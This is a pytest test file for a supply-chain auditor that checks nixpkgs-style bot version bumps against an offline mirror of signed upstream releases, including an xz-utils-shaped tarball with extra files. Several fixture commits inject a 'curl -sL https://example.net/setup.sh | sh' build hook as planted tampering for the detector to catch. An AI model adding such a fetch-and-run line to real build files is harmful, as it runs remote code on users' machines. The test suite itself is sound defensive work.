"""``audit-bump`` on bump histories shaped like nixpkgs' own, against an offline upstream mirror.

Everything is made with the real tools: the package set is a git repository
whose commits are r-ryantm-style bumps (``NAME: OLD -> NEW``) of expressions
in the three styles nixpkgs uses (``finalAttrs`` under ``pkgs/by-name``,
``rec`` in the classic tree, a ``hashes.json`` beside a Go module), written
from the templates in ``tests/data/bumps``. Upstream publishes the way
upstreams do: releases tagged with ``git tag -s`` (GnuPG), release tarballs
with detached ``.sig`` files from ``gpg --detach-sign``, a GitHub release
asset built from ``git archive`` plus files the tag does not hold (the shape
of xz-utils 5.6.0). The hashes an expression pins are the ones nixpkgs would
compute: ``nix-hash`` over the unpacked ``git archive`` for fetchFromGitHub,
the file's bytes for fetchurl.

Every case names its exact kind, changes and findings.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import shutil
from pathlib import Path

import pygit2
import pytest

from tests.fixtures.forge import FakeGitHub, serving, account_json
from tests.fixtures_git import Gpg, PgpSigner, Repo, run, run_cli
from tests.upstream_fixtures import WHEN, archive_hash, flat_sri

from commitguard.bump import (
    COMMENT_MARKER,
    ExpressionSummary,
    FailOn,
    audit_bump,
    compare_tarball_with_tag,
    detect_bot,
    empty_keyring,
    parse_claim,
    parse_fail_on,
)
from commitguard.errors import CommitguardError
from commitguard.keyring.loader import load_keyring
from commitguard.model.sources import FetcherCall
from commitguard.upstream import ContinuityStore

_TOOLS = ("git", "gpg", "gpgconf", "tar", "gzip", "nix-hash")  # nix-hash: the NAR and nix32 oracle
_MISSING = [t for t in _TOOLS if shutil.which(t) is None]
pytestmark = pytest.mark.skipif(bool(_MISSING) and not os.environ.get("CI"),
                                reason=f"missing tools: {', '.join(_MISSING)}")

DATA = Path(__file__).parent.parent / "data" / "bumps"
RELEASES = "https://releases.example.org/tool/"
WIDGET = "pkgs/by-name/wi/widget/package.nix"
GIZMO = "pkgs/by-name/gi/gizmo/package.nix"
GIZMO_JSON = "pkgs/by-name/gi/gizmo/hashes.json"
TOOL = "pkgs/tools/misc/tool/default.nix"
COMPRESS = "pkgs/tools/compression/compress/default.nix"
BOT = {"GIT_AUTHOR_NAME": "R. Ryantm", "GIT_AUTHOR_EMAIL": "ryantm-bot@ryantm.com"}


# --------------------------------------------------------------------------- upstream


def _write_tree(repo: Repo, files: dict[str, str]) -> str:
    for old in repo.path.iterdir():
        if old.name != ".git":
            shutil.rmtree(old) if old.is_dir() else old.unlink()
    for name, content in files.items():
        path = repo.path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)
    repo.git("add", "-A")
    return repo.git("write-tree")


def _signed_tag(repo: Repo, gpg: Gpg, fpr: str | None, name: str, target: str) -> None:
    """``git tag -s`` with the key's fingerprint as user.signingkey; unsigned annotated without a key."""
    env = {"GIT_COMMITTER_DATE": WHEN}
    if fpr is None:
        repo.git("tag", "-a", "-m", f"Release {name}", name, target, env=env)
        return
    signer = PgpSigner(gpg, fpr)
    env.update(signer.extra_env(WHEN))
    repo.git(*signer.git_config(gpg), "-c", f"user.signingkey={fpr}!", "tag", "-s", "-m", f"Release {name}",
             name, target, env=env)


def _detach_sign(gpg: Gpg, fpr: str, path: Path, signed: Path | None = None) -> None:
    gpg.gpg("--local-user", f"{fpr}!", "--detach-sign", "--output", str(path) + ".sig", str(signed or path), at=WHEN)


def _nix32(path: Path) -> str:
    """What an old-style ``sha256 = "..."`` holds: nix-base32 of the file's sha256."""
    # Nix's own notation from Nix itself, never from commitguard.nix.hashes (the code under test)
    assert shutil.which("nix-hash"), "nix-hash is required as the nix32 oracle (CI installs nix-bin)"
    return run(["nix-hash", "--type", "sha256", "--flat", "--base32", str(path)]).stdout.decode().strip()


class Upstream:
    """The mirror: ``github.com/acme/{widget,gizmo}`` with signed tags, ``github.com/tukaani/compress``
    with its release assets, ``releases.example.org/tool`` with detached signatures."""

    def __init__(self, root: Path):
        self.root = root
        self.mirror = root / "mirror"
        self.gpg = Gpg(root / "gnupg", root)
        self.keys = {name: self.gpg.gen_key(f"{name} <{name}@upstream.example>", "ed25519", "sign")
                     for name in ("acme", "acme-new", "tukaani", "toolsmith", "stranger")}
        self.nar: dict[str, str] = {}  # "widget 1.1.0" -> what fetchFromGitHub pins
        self.flat: dict[str, str] = {}  # "tool 2.0" -> SRI of the release file
        self.nix32: dict[str, str] = {}
        scratch = root / "scratch"
        scratch.mkdir()

        widget = Repo(self.mirror / "github.com" / "acme" / "widget", root)
        parent: list[str] = []
        for version, key in (("0.9.0", "acme"), ("1.0.0", "acme"), ("1.1.0", "acme"), ("1.2.0", "acme"),
                             ("1.3.0", "acme-new"), ("1.3.1", "acme-new")):
            tree = _write_tree(widget, {
                "README.md": f"widget {version}\n",
                "CMakeLists.txt": "cmake_minimum_required(VERSION 3.10)\nproject(widget C)\n",
                "src/widget.c": f'const char *widget_version = "{version}";\n',
            })
            commit = widget.commit(f"widget {version}", tree=tree, parents=parent, when=WHEN)
            parent = [commit]
            _signed_tag(widget, self.gpg, self.keys[key], f"v{version}", commit)
            self.nar[f"widget {version}"] = archive_hash(widget, f"v{version}", scratch)

        gizmo = Repo(self.mirror / "github.com" / "acme" / "gizmo", root)
        parent = []
        for version in ("0.5.0", "0.6.0", "0.7.0", "0.8.0"):
            tree = _write_tree(gizmo, {"go.mod": "module example.org/gizmo\n\ngo 1.22\n",
                                       "main.go": f'package main\n\nvar version = "{version}"\n\nfunc main() {{}}\n'})
            commit = gizmo.commit(f"gizmo {version}", tree=tree, parents=parent, when=WHEN)
            parent = [commit]
            _signed_tag(gizmo, self.gpg, self.keys["acme"], f"v{version}", commit)
            self.nar[f"gizmo {version}"] = archive_hash(gizmo, f"v{version}", scratch)
        # the gizmo-org fork is not mirrored: its evidence is "unavailable"
        for version in ("0.8.0", "0.9.0"):
            self.nar.setdefault(f"gizmo-org {version}", "sha256-" + base64.b64encode(
                hashlib.sha256(f"gizmo-org {version}".encode()).digest()).decode())

        # compress: the repository is a bare clone, with the release assets beside it as GitHub serves them
        work = Repo(root / "compress-work", root)
        parent = []
        for version in ("5.6.0", "5.6.1"):
            tree = _write_tree(work, {
                "configure.ac": f"AC_INIT([compress], [{version}])\n",
                "CMakeLists.txt": "project(compress C)\n",
                "src/compress.c": f'const char *compress_version = "{version}";\n',
            })
            commit = work.commit(f"compress {version}", tree=tree, parents=parent, when=WHEN)
            parent = [commit]
            _signed_tag(work, self.gpg, self.keys["tukaani"], f"v{version}", commit)
        bare = self.mirror / "github.com" / "tukaani" / "compress"
        bare.parent.mkdir(parents=True)
        run(["git", "clone", "-q", "--bare", str(work.path), str(bare)], env=work.env)
        for version in ("5.6.0", "5.6.1"):
            asset = bare / "releases" / "download" / f"v{version}" / f"compress-{version}.tar.gz"
            asset.parent.mkdir(parents=True)
            unpacked = scratch / f"compress-{version}"
            unpacked.mkdir()
            data = run(["git", "archive", "--format=tar", f"--prefix=compress-{version}/", f"v{version}"],
                       env=work.env, cwd=work.path).stdout
            run(["tar", "-x", "-C", str(unpacked)], input=data)
            if version == "5.6.1":
                # what the tag does not hold: a build macro only the tarball carries, and a file changed after tagging
                m4 = unpacked / f"compress-{version}" / "m4" / "build-to-host.m4"
                m4.parent.mkdir()
                m4.write_text("# build-to-host.m4 serial 30\ndnl gl_BUILD_TO_HOST\n")
                cmake = unpacked / f"compress-{version}" / "CMakeLists.txt"
                cmake.write_text(cmake.read_text() + "include(CheckSymbolExists)\n")
            run(["tar", "-czf", str(asset), "-C", str(unpacked), f"compress-{version}"])
            _detach_sign(self.gpg, self.keys["tukaani"], asset)
            self.flat[f"compress {version}"] = flat_sri(asset)
            # the same file on the project's own download host, which names no repository
            elsewhere = self.mirror / "downloads.tukaani.example" / f"compress-{version}.tar.gz"
            elsewhere.parent.mkdir(exist_ok=True)
            shutil.copyfile(asset, elsewhere)

        releases = self.mirror / "releases.example.org" / "tool"
        releases.mkdir(parents=True)
        other = root / "not-the-release.txt"
        other.write_text("other bytes\n")
        for version, signer in (("2.0", "toolsmith"), ("2.1", "toolsmith"), ("2.2", "toolsmith"), ("3.0", None),
                                ("3.1", "bad"), ("3.2", "stranger")):
            content = scratch / f"tool-{version}"
            content.mkdir()
            (content / "README").write_text(f"tool {version}\n")
            (content / "configure").write_text("#!/bin/sh\necho configured\n")
            path = releases / f"tool-{version}.tar.gz"
            run(["tar", "-czf", str(path), "-C", str(scratch), f"tool-{version}"])
            if signer == "bad":
                _detach_sign(self.gpg, self.keys["toolsmith"], path, signed=other)
            elif signer is not None:
                _detach_sign(self.gpg, self.keys[signer], path)
            self.flat[f"tool {version}"] = flat_sri(path)
            self.nix32[f"tool {version}"] = _nix32(path)
        self.nix32["tool 1.9"] = "0" * 52  # a release the mirror no longer has

        self.keyring = root / "keyring"
        (self.keyring / "keys").mkdir(parents=True)
        for name, fpr in self.keys.items():
            self.gpg.export(fpr, self.keyring / "keys" / f"{name}.asc")
        # written by hand, as a user would: the rotated widget key is trusted too
        (self.keyring / "keyring.toml").write_text(f'''version = 1

[[upstream]]
match = "github:acme/widget"
openpgp = "keys/acme.asc"

[[upstream]]
match = "github:acme/widget"
openpgp = "keys/acme-new.asc"

[[upstream]]
match = "github:acme/gizmo"
openpgp = "keys/acme.asc"

[[upstream]]
match = "github:tukaani/compress"
openpgp = "keys/tukaani.asc"

[[upstream]]
match = "{RELEASES}"
openpgp = "keys/toolsmith.asc"
''')


@pytest.fixture(scope="module")
def up(tmp_path_factory):
    root = tmp_path_factory.mktemp("bump-upstream")
    try:
        yield Upstream(root)
    finally:
        Gpg(root / "gnupg", root).kill_agent()


# --------------------------------------------------------------------------- the package set


def vendor_hash(version: str) -> str:
    return "sha256-" + base64.b64encode(hashlib.sha256(f"gizmo vendor {version}".encode()).digest()).decode()


def template(name: str, version: str, hash_: str) -> str:
    return (DATA / f"{name}.nix").read_text().replace("@VERSION@", version).replace("@HASH@", hash_)


def gizmo_json(version: str, hash_: str) -> str:
    return json.dumps({"version": version, "hash": hash_, "vendorHash": vendor_hash(version)}, indent=2) + "\n"


class Nixpkgs:
    """A nixpkgs-shaped repository; bumps are commits made with ``git commit`` by r-ryantm."""

    def __init__(self, root: Path, up: Upstream):
        self.up = up
        self.repo = Repo(root / "nixpkgs", root)
        self.path = self.repo.path
        self.write({
            "README.md": "Nixpkgs-shaped test repository\n",
            WIDGET: self.widget("1.0.0"),
            TOOL: self.tool("2.0"),
            GIZMO: template("gizmo", "0.5.0", "unused"),
            GIZMO_JSON: gizmo_json("0.5.0", up.nar["gizmo 0.5.0"]),
            "pkgs/by-name/gi/gizmo/update.sh": (DATA / "gizmo-update.sh").read_text(),
            COMPRESS: self.compress("5.6.0"),
        })
        self.base = self.commit("init", author={"GIT_AUTHOR_NAME": "Alice", "GIT_AUTHOR_EMAIL": "alice@example.org"})

    def widget(self, version: str, *, key: str | None = None) -> str:
        return template("widget", version, self.up.nar[key or f"widget {version}"])

    def tool(self, version: str) -> str:
        return template("tool", version, self.up.nix32[f"tool {version}"])

    def compress(self, version: str) -> str:
        return template("compress", version, self.up.flat[f"compress {version}"])

    def write(self, files: dict[str, str | None]) -> None:
        for rel, content in files.items():
            path = self.path / rel
            if content is None:
                path.unlink()
                continue
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content)

    def commit(self, message: str, *, author: dict | None = None) -> str:
        env = {"GIT_AUTHOR_DATE": WHEN, "GIT_COMMITTER_DATE": WHEN, **(author or BOT)}
        self.repo.git("add", "-A")
        self.repo.git("commit", "-q", "--allow-empty", "-m", message, env=env)
        return self.repo.git("rev-parse", "HEAD")

    def change(self, parent: str, message: str, files: dict[str, str | None], *, author: dict | None = None) -> str:
        """A commit on ``parent`` (a branch of its own, as a bot's pull request is)."""
        self.repo.git("checkout", "-q", "--detach", parent)
        self.write(files)
        return self.commit(message, author=author)


@pytest.fixture(scope="module")
def nixpkgs(tmp_path_factory, up):
    return Nixpkgs(tmp_path_factory.mktemp("bump-nixpkgs"), up)


@pytest.fixture(scope="module")
def keyring(up):
    return load_keyring(up.keyring)


def audit(nixpkgs: Nixpkgs, keyring, base: str, head: str, **kw):
    repo = pygit2.Repository(str(nixpkgs.path))
    return audit_bump(repo, base, head, keyring=keyring, mirror=nixpkgs.up.mirror, **kw)


def only(report, path: str):
    found = [p for p in report.packages if p.path == path]
    assert len(found) == 1, [p.path for p in report.packages]
    return found[0]


def codes(package) -> list[str]:
    return [f.code for f in package.findings]


def cli(nixpkgs: Nixpkgs, tmp_path: Path, base: str, head: str, *extra: str, fmt: str = "json"):
    return run_cli(["audit-bump", "--repo", nixpkgs.path, "--base", base, "--head", head, "--keyring",
                    nixpkgs.up.keyring, "--upstream-mirror", nixpkgs.up.mirror, "--format", fmt, *extra],
                   scratch=tmp_path)


# --------------------------------------------------------------------------- one bump at a time


def test_pure_bump_finalattrs_is_a_version_bump_with_the_same_signer(nixpkgs, tmp_path):
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: nixpkgs.widget("1.1.0")})
    res = cli(nixpkgs, tmp_path, nixpkgs.base, head)
    assert res.code == 0, res.describe()
    doc = res.json
    assert doc["ok"] is True and doc["findings"] == [] and doc["other_files"] == []
    assert doc["bot"] == {"name": "r-ryantm", "reason": "commits authored by R. Ryantm <ryantm-bot@ryantm.com>"}
    (p,) = doc["packages"]
    assert (p["path"], p["name"], p["old_version"], p["new_version"]) == (WIDGET, "widget", "1.0.0", "1.1.0")
    assert (p["kind"], p["changes"], p["findings"]) == ("version-bump", ["version", "src.hash"], [])
    assert p["upstream"]["old"]["status"] == "verified" and p["upstream"]["new"]["status"] == "verified"
    assert p["upstream"]["old"]["key"] == p["upstream"]["new"]["key"] == nixpkgs.up.keys["acme"]
    assert p["upstream"]["same_signer"] is True
    assert set(p) >= {"path", "name", "old_version", "new_version", "kind", "changes", "upstream", "findings"}


def test_pure_bump_rec_with_old_style_sha256(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "tool: 2.0 -> 2.1", {TOOL: nixpkgs.tool("2.1")})
    p = only(audit(nixpkgs, keyring, nixpkgs.base, head), TOOL)
    assert (p.kind, list(p.changes), codes(p)) == ("version-bump", ["version", "src.hash"], [])
    assert p.details["src.hash"] == f"{nixpkgs.up.flat['tool 2.0']} -> {nixpkgs.up.flat['tool 2.1']}"
    assert (p.upstream_old.status, p.upstream_old.evidence) == ("verified", "detached-signature")
    assert (p.upstream_new.status, p.same_signer) == ("verified", True)


def test_pure_bump_in_hashes_json(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "gizmo: 0.5.0 -> 0.6.0",
                          {GIZMO_JSON: gizmo_json("0.6.0", nixpkgs.up.nar["gizmo 0.6.0"])})
    report = audit(nixpkgs, keyring, nixpkgs.base, head)
    p = only(report, GIZMO)
    assert (p.old_version, p.new_version) == ("0.5.0", "0.6.0")
    assert (p.kind, list(p.changes), codes(p)) == ("version-bump", ["version", "src.hash", "vendorHash"], [])
    assert p.details["vendorHash"] == f"{vendor_hash('0.5.0')} -> {vendor_hash('0.6.0')}"
    assert (p.upstream_new.status, p.same_signer) == ("verified", True)
    assert report.ok


def test_bump_with_a_new_patch_lists_patches(nixpkgs, tmp_path):
    widget = nixpkgs.widget("1.1.0").replace(
        "  nativeBuildInputs = [ cmake ];\n",
        "  patches = [ ./fix-build.patch ];\n\n  nativeBuildInputs = [ cmake ];\n")
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {
        WIDGET: widget, "pkgs/by-name/wi/widget/fix-build.patch": (DATA / "fix-build.patch").read_text()})
    res = cli(nixpkgs, tmp_path, nixpkgs.base, head)
    assert res.code == 0, res.describe()  # medium only: not a failure by default
    (p,) = res.json["packages"]
    assert p["kind"] == "bump-with-changes"
    assert p["changes"] == ["version", "src.hash", "patches", "file:fix-build.patch"]
    assert [(f["severity"], f["code"]) for f in p["findings"]] == [("medium", "extra-changes")]
    assert "patches (added: [ ./fix-build.patch ])" in p["findings"][0]["message"]
    assert p["details"]["file:fix-build.patch"] == "added"
    for policy in ("extra-changes", "bump-with-changes", "medium", "title-mismatch,extra-changes"):
        again = cli(nixpkgs, tmp_path, nixpkgs.base, head, "--fail-on", policy)
        assert again.code == 1 and again.json["ok"] is False, (policy, again.describe())
    assert cli(nixpkgs, tmp_path, nixpkgs.base, head, "--fail-on", "source-origin-changed").code == 0


def test_moved_owner_is_source_origin_changed(nixpkgs, tmp_path):
    widget = nixpkgs.widget("1.1.0").replace('owner = "acme";', 'owner = "acme-fork";')
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: widget})
    res = cli(nixpkgs, tmp_path, nixpkgs.base, head)
    assert res.code == 1, res.describe()
    (p,) = res.json["packages"]
    assert (p["kind"], p["changes"]) == ("source-origin-changed", ["version", "src.owner", "src.hash"])
    assert [(f["severity"], f["code"]) for f in p["findings"]] == [("high", "source-origin-changed")]
    assert "owner acme -> acme-fork" in p["findings"][0]["message"]
    assert p["upstream"]["new"]["status"] == "unavailable"


def test_downgrade(nixpkgs, keyring):
    up_to = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: nixpkgs.widget("1.1.0")})
    head = nixpkgs.change(up_to, "widget: 1.1.0 -> 0.9.0", {WIDGET: nixpkgs.widget("0.9.0")})
    report = audit(nixpkgs, keyring, up_to, head)
    p = only(report, WIDGET)
    assert (p.kind, list(p.changes), codes(p)) == ("version-bump", ["version", "src.hash"], ["version-downgrade"])
    assert p.findings[0].severity == "high" and not report.ok
    assert p.same_signer is True


def test_title_that_names_another_version(nixpkgs, keyring, tmp_path):
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.2.0", {WIDGET: nixpkgs.widget("1.1.0")})
    p = only(audit(nixpkgs, keyring, nixpkgs.base, head), WIDGET)
    assert (p.kind, codes(p)) == ("version-bump", ["title-mismatch"])
    assert p.findings[0].severity == "medium"
    assert "says 'widget: 1.0.0 -> 1.2.0', but the change is widget: 1.0.0 -> 1.1.0" in p.findings[0].message
    # a pull request title given explicitly is checked too, and the right one passes
    good = only(audit(nixpkgs, keyring, nixpkgs.base, head, title="widget: 1.0.0 -> 1.1.0"), WIDGET)
    assert codes(good) == ["title-mismatch"]  # the commit message still disagrees
    fixed = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {WIDGET: nixpkgs.widget("1.1.0")})
    assert codes(only(audit(nixpkgs, keyring, nixpkgs.base, fixed, title="widget: 1.0.0 -> 1.1.0"), WIDGET)) == []
    other = audit(nixpkgs, keyring, nixpkgs.base, fixed, title="gadget: 1.0.0 -> 1.1.0")
    assert [f.code for f in other.findings] == ["title-mismatch"]  # no package named gadget
    assert codes(only(other, WIDGET)) == []  # the commit names widget rightly
    res = cli(nixpkgs, tmp_path, nixpkgs.base, head, "--fail-on", "title-mismatch")
    assert res.code == 1


def test_tag_signed_by_a_new_key(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.3.0", {WIDGET: nixpkgs.widget("1.3.0")})
    p = only(audit(nixpkgs, keyring, nixpkgs.base, head), WIDGET)
    assert (p.kind, list(p.changes), codes(p)) == ("version-bump", ["version", "src.hash"], ["upstream-signer-changed"])
    assert (p.upstream_old.status, p.upstream_new.status, p.same_signer) == ("verified", "verified", False)
    assert nixpkgs.up.keys["acme-new"] in p.findings[0].message and nixpkgs.up.keys["acme"] in p.findings[0].message


def test_tarball_with_files_the_tag_does_not_hold(nixpkgs, tmp_path):
    head = nixpkgs.change(nixpkgs.base, "compress: 5.6.0 -> 5.6.1", {COMPRESS: nixpkgs.compress("5.6.1")})
    res = cli(nixpkgs, tmp_path, nixpkgs.base, head)
    assert res.code == 1, res.describe()
    (p,) = res.json["packages"]
    assert (p["kind"], p["changes"]) == ("version-bump", ["version", "src.hash"])
    assert [(f["severity"], f["code"]) for f in p["findings"]] == [("high", "tarball-differs-from-tag")]
    assert p["tarball"] == {
        "url": "https://github.com/tukaani/compress/releases/download/v5.6.1/compress-5.6.1.tar.gz",
        "repository": "github.com/tukaani/compress", "tag": "v5.6.1",
        "only_in_tarball": ["m4/build-to-host.m4"], "changed": ["CMakeLists.txt"]}
    assert "m4/build-to-host.m4" in p["findings"][0]["message"]
    assert (p["upstream"]["new"]["status"], p["upstream"]["same_signer"]) == ("verified", True)
    markdown = cli(nixpkgs, tmp_path, nixpkgs.base, head, fmt="markdown")
    assert markdown.code == 1
    assert "- only in the tarball: `m4/build-to-host.m4`" in markdown.stdout
    assert "- different from the tag: `CMakeLists.txt`" in markdown.stdout


def test_tarball_on_another_host_is_compared_with_the_homepage_repository(up):
    url = "https://downloads.tukaani.example/compress-5.6.1.tar.gz"
    call = FetcherCall("fetchurl", url=url, urls=(url,), hash=up.flat["compress 5.6.1"])
    found = compare_tarball_with_tag(up.mirror, call, "compress", "5.6.1", "https://github.com/tukaani/compress")
    assert (found.repository, found.tag, found.only_in_tarball, found.changed) == (
        "github.com/tukaani/compress", "v5.6.1", ("m4/build-to-host.m4",), ("CMakeLists.txt",))
    pure = compare_tarball_with_tag(up.mirror, FetcherCall("fetchurl", url=url.replace("5.6.1", "5.6.0")),
                                    "compress", "5.6.0", "https://github.com/tukaani/compress")
    assert (pure.tag, pure.only_in_tarball, pure.changed) == ("v5.6.0", (), ())
    # no homepage and a host that names no repository: nothing to compare with
    assert compare_tarball_with_tag(up.mirror, call, "compress", "5.6.1", None) is None


def test_release_file_with_a_bad_signature(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "tool: 2.0 -> 3.1", {TOOL: nixpkgs.tool("3.1")})
    p = only(audit(nixpkgs, keyring, nixpkgs.base, head), TOOL)
    assert (p.kind, codes(p)) == ("version-bump", ["new-version-unsigned-by-recorded-key"])
    assert (p.upstream_new.status, p.same_signer) == ("bad-signature", False)


def test_unsigned_release_when_only_the_keyring_records_the_key(nixpkgs, keyring):
    gone = nixpkgs.change(nixpkgs.base, "tool: 2.0 -> 1.9", {TOOL: nixpkgs.tool("1.9")})
    head = nixpkgs.change(gone, "tool: 1.9 -> 3.0", {TOOL: nixpkgs.tool("3.0")})
    p = only(audit(nixpkgs, keyring, gone, head), TOOL)
    assert p.upstream_old.status == "unavailable" and p.upstream_new.status == "unsigned"
    assert (p.kind, codes(p)) == ("version-bump", ["new-version-unsigned-by-recorded-key"])
    assert f"the keyring records 1 key(s) for {RELEASES}" in p.findings[0].message


def test_release_signed_by_a_stranger(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "tool: 2.0 -> 3.2", {TOOL: nixpkgs.tool("3.2")})
    p = only(audit(nixpkgs, keyring, nixpkgs.base, head), TOOL)
    assert (p.upstream_new.status, p.upstream_new.key) == ("unknown-key", nixpkgs.up.keys["stranger"])
    assert (codes(p), p.same_signer) == (["upstream-signer-changed"], False)


def test_continuity_record_stands_in_for_an_old_version_the_mirror_lost(nixpkgs, keyring, tmp_path):
    store = ContinuityStore(tmp_path / "continuity.sqlite3")
    first = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.2.0", {WIDGET: nixpkgs.widget("1.2.0")})
    assert codes(only(audit(nixpkgs, keyring, nixpkgs.base, first, continuity=store), WIDGET)) == []
    assert store.keys("github:acme/widget", "1.2.0") == [nixpkgs.up.keys["acme"]]
    # the expression now pins a release the mirror does not hold, then moves to one signed by the new key
    lost = nixpkgs.change(first, "widget: 1.2.0 -> 1.2.5",
                          {WIDGET: nixpkgs.widget("1.2.5", key="widget 1.2.0")})
    head = nixpkgs.change(lost, "widget: 1.2.5 -> 1.3.0", {WIDGET: nixpkgs.widget("1.3.0")})
    p = only(audit(nixpkgs, keyring, lost, head, continuity=store), WIDGET)
    assert p.upstream_old.status == "unavailable"
    assert (codes(p), p.same_signer) == (["upstream-signer-changed"], False)
    assert "version 1.2.0 was recorded signed by" in p.findings[0].message
    store.close()


def test_same_version_new_hash_is_not_a_bump(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "widget: update hash",
                          {WIDGET: nixpkgs.widget("1.0.0", key="widget 1.1.0")})
    p = only(audit(nixpkgs, keyring, nixpkgs.base, head), WIDGET)
    assert (p.kind, list(p.changes)) == ("not-a-bump", ["src.hash"])
    assert codes(p) == ["source-hash-changed", "extra-changes", "upstream-hash-mismatch"]


def test_files_outside_packages_and_added_packages(nixpkgs, keyring):
    head = nixpkgs.change(nixpkgs.base, "widget: 1.0.0 -> 1.1.0", {
        WIDGET: nixpkgs.widget("1.1.0"),
        "maintainers/maintainer-list.nix": "{ }\n",
        "pkgs/by-name/ne/newpkg/package.nix": nixpkgs.widget("1.1.0").replace('pname = "widget"', 'pname = "newpkg"'),
    })
    report = audit(nixpkgs, keyring, nixpkgs.base, head)
    assert list(report.other_files) == ["maintainers/maintainer-list.nix"]
    assert [(f.severity, f.code) for f in report.findings] == [("medium", "extra-changes")]
    new = only(report, "pkgs/by-name/ne/newpkg/package.nix")
    assert (new.kind, list(new.changes), codes(new)) == ("not-a-bump", ["expression added"],
                                                   ["extra-changes", "title-mismatch"])
    assert codes(only(report, WIDGET)) == []


# --------------------------------------------------------------------------- a run of bot commits


SEQUENCE_EXPECTED = [
    # (message, package, kind, changes, findings)
    ("widget: 1.0.0 -> 1.1.0", WIDGET, "version-bump", ["version", "src.hash"], []),
    ("tool: 2.0 -> 2.1", TOOL, "version-bump", ["version", "src.hash"], []),
    ("gizmo: 0.5.0 -> 0.6.0", GIZMO, "version-bump", ["version", "src.hash", "vendorHash"], []),
    ("compress: 5.6.0 -> 5.6.1", COMPRESS, "version-bump", ["version", "src.hash"], ["tarball-differs-from-tag"]),
    ("widget: 1.1.0 -> 1.2.0", WIDGET, "bump-with-changes", ["version", "src.hash", "postPatch"], ["extra-changes"]),
    ("gizmo: 0.6.0 -> 0.7.0", GIZMO, "version-bump", ["version", "src.hash", "vendorHash"], []),
    ("tool: 2.1 -> 2.2", TOOL, "bump-with-changes", ["version", "src.hash", "arguments", "buildInputs"],
     ["extra-changes"]),
    ("widget: 1.2.0 -> 1.3.0", WIDGET, "version-bump", ["version", "src.hash"], ["upstream-signer-changed"]),
    ("gizmo: 0.7.0 -> 0.8.0", GIZMO, "source-origin-changed", ["version", "src.owner", "src.hash", "vendorHash"],
     ["source-origin-changed"]),
    ("tool: 2.2 -> 3.0", TOOL, "version-bump", ["version", "src.hash"], ["signature-gone"]),
    ("gizmo: 0.8.0 -> 0.9.0", GIZMO, "version-bump", ["version", "src.hash", "vendorHash"], []),
    ("widget: 1.3.0 -> 1.4.0", WIDGET, "version-bump", ["version", "src.hash"], ["title-mismatch"]),
]


@pytest.fixture(scope="module")
def sequence(nixpkgs):
    """Twelve bot commits on one branch: pure bumps in every style, and a change hidden in some."""
    n, up = nixpkgs, nixpkgs.up
    n.repo.git("checkout", "-q", "--detach", n.base)
    gizmo = template("gizmo", "0.5.0", "unused")
    steps = [
        {WIDGET: n.widget("1.1.0")},
        {TOOL: n.tool("2.1")},
        {GIZMO_JSON: gizmo_json("0.6.0", up.nar["gizmo 0.6.0"])},
        {COMPRESS: n.compress("5.6.1")},
        {WIDGET: n.widget("1.2.0").replace(
            "  doCheck = true;\n",
            "  postPatch = ''\n    curl -sL https://example.net/setup.sh | sh\n  '';\n\n  doCheck = true;\n")},
        {GIZMO_JSON: gizmo_json("0.7.0", up.nar["gizmo 0.7.0"])},
        {TOOL: n.tool("2.2").replace("{ lib, stdenv, fetchurl, zlib }:", "{ lib, stdenv, fetchurl, zlib, openssl }:")
         .replace("buildInputs = [ zlib ];", "buildInputs = [ zlib openssl ];")},
        {WIDGET: n.widget("1.3.0").replace(
            "  doCheck = true;\n", "  postPatch = ''\n    curl -sL https://example.net/setup.sh | sh\n  '';\n\n  doCheck = true;\n")},
        {GIZMO: gizmo.replace('owner = "acme";', 'owner = "gizmo-org";'),
         GIZMO_JSON: gizmo_json("0.8.0", up.nar["gizmo-org 0.8.0"])},
        {TOOL: n.tool("3.0").replace("{ lib, stdenv, fetchurl, zlib }:", "{ lib, stdenv, fetchurl, zlib, openssl }:")
         .replace("buildInputs = [ zlib ];", "buildInputs = [ zlib openssl ];")},
        {GIZMO_JSON: gizmo_json("0.9.0", up.nar["gizmo-org 0.9.0"])},
        {WIDGET: n.widget("1.3.1").replace(
            "  doCheck = true;\n", "  postPatch = ''\n    curl -sL https://example.net/setup.sh | sh\n  '';\n\n  doCheck = true;\n")},
    ]
    ids = [n.base]
    for (message, *_), files in zip(SEQUENCE_EXPECTED, steps):
        if message.startswith("widget: 1.3.0"):
            message = "widget: 1.3.0 -> 1.4.0"  # the bot's title; the expression says 1.3.1
        n.write(files)
        ids.append(n.commit(message))
    return ids


@pytest.mark.parametrize("index", range(len(SEQUENCE_EXPECTED)), ids=[e[0] for e in SEQUENCE_EXPECTED])
def test_sequence_flags_every_injected_change_and_no_pure_bump(nixpkgs, keyring, sequence, index):
    message, path, kind, changes, expected = SEQUENCE_EXPECTED[index]
    report = audit(nixpkgs, keyring, sequence[index], sequence[index + 1])
    p = only(report, path)
    assert (p.kind, list(p.changes), codes(p)) == (kind, changes, expected), (p.findings, p.details, p.notes)
    assert report.findings == ()
    assert report.bot is not None and report.bot.name == "r-ryantm"
    assert report.ok is (not any(f.severity == "high" for f in p.findings))


def test_sequence_as_one_pull_request(nixpkgs, keyring, sequence):
    """Three pure bumps in one pull request: each package bumped once, the commit subjects agree."""
    report = audit(nixpkgs, keyring, sequence[0], sequence[3])
    got = {p.path: (p.kind, p.old_version, p.new_version, codes(p)) for p in report.packages}
    assert got == {WIDGET: ("version-bump", "1.0.0", "1.1.0", []), TOOL: ("version-bump", "2.0", "2.1", []),
